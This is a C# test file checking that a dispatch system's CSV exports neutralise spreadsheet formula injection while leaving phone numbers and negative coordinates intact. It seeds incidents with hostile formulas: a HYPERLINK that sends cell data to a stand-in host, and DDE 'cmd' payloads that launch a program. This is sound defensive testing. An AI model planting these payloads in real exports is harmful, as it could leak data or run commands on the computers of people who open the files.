using System.Globalization;
using CsvHelper;
using Dispatch.Api.Tests.Infrastructure;

namespace Dispatch.Api.Tests.Reports;

/// <summary>
/// Every CSV the system writes is safe to open in a spreadsheet: caller-supplied text that begins
/// like a formula (=, +, -, @, tab, CR) comes out behind an apostrophe, inert; a plain number (a
/// phone number +62..., a negative latitude) stays as it is, readable as a number.
/// </summary>
public sealed class ExportSafetyTests : ApiTest
{
    private const string Hyperlink = "=HYPERLINK(\"http://x/?\"&A2,\"klik\")";
    private const string Phone = "+6281234567890";

    private static readonly string[] Formulas = [Hyperlink, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+1", "\r=1+1"];

    private string _day = "";

    [OneTimeSetUp]
    public async Task OpenIncidentsWithHostileText()
    {
        using var op = await Api.AsAsync("operator1");
        _day = TimeProvider.System.GetUtcNow().ToOffset(TimeSpan.FromHours(7)).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
        foreach (var (complaint, i) in Formulas.Select((f, i) => (f, i)))
        {
            var callId = (await Api.IngestAsync($"csv-{i}-{Guid.NewGuid():n}")).GetProperty("id").GetInt64();
            await ApiClient.OkJsonAsync(await op.PostAsync($"/api/calls/{callId}/answer", null));
            await ApiClient.OkJsonAsync(await op.PostAsync($"/api/calls/{callId}/incident", System.Net.Http.Json.JsonContent.Create(
                new { lat = -0.79, lon = 100.65, triage = "kuning", complaint, address = Phone })));
        }
    }

    private async Task<List<Dictionary<string, string>>> ReadCsvAsync(string path)
    {
        using var office = await Api.AsAsync("dinkes1");
        var text = await (await office.GetAsync(path)).Content.ReadAsStringAsync();
        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var rows = new List<Dictionary<string, string>>();
        await csv.ReadAsync();
        csv.ReadHeader();
        while (await csv.ReadAsync()) rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h)!));
        return rows;
    }

    [Test]
    public async Task The_incident_export_neutralises_formulas_and_keeps_numbers()
    {
        var rows = await ReadCsvAsync($"/api/exports/incidents.csv?from={_day}&to={_day}");

        Assert.That(rows.Select(r => r["complaint"]), Is.EquivalentTo(Formulas.Select(f => "'" + f)), "each formula behind an apostrophe, otherwise whole");
        Assert.That(rows.Select(r => r["address"]), Is.All.EqualTo(Phone), "a phone number stays readable as a number");
        Assert.That(rows.Select(r => r["lat"]), Is.All.EqualTo("-0.79"), "a negative number keeps its sign");
    }

    [Test]
    public async Task The_national_export_neutralises_formulas_and_keeps_numbers()
    {
        var rows = await ReadCsvAsync($"/api/exports/kemenkes?from={_day}&to={_day}&format=csv");

        Assert.That(rows.Select(r => r["keluhan"]), Is.EquivalentTo(Formulas.Select(f => "'" + f)));
        Assert.That(rows.Select(r => r["latitude"]), Is.All.EqualTo("-0.79"));
    }
}
